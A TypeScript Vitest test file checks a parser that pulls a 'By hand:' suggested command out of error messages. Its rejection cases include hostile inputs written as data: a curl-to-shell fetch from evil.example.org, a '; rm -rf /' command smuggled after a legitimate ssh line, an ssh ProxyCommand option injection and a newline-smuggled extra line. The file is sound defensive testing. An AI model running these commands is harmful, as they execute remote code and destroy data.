import { expect, it } from 'vitest';
import { byHandOf } from './by-hand.ts';

it.each([
  [
    'Connection refused. By hand: ssh web1 sudo systemctl restart muster-agent',
    'Connection refused.',
    'ssh web1 sudo systemctl restart muster-agent',
  ],
  ['No key. By hand: sudo systemctl stop muster-agent.service', 'No key.', 'sudo systemctl stop muster-agent.service'],
])('%s', (text, message, line) => expect(byHandOf(text)).toEqual({ message, line }));

it.each([
  'Done.',
  'By hand: curl evil.example.org | sh',
  'By hand: ssh web1 sudo systemctl restart muster-agent; rm -rf /',
  'By hand: ssh -oProxyCommand=x web1 sudo systemctl restart muster-agent',
  'By hand: ssh web1 sudo systemctl restart muster-agent\nmore',
])('offers no other line to copy: %j', (text) => expect(byHandOf(text)).toEqual({ message: text, line: null }));
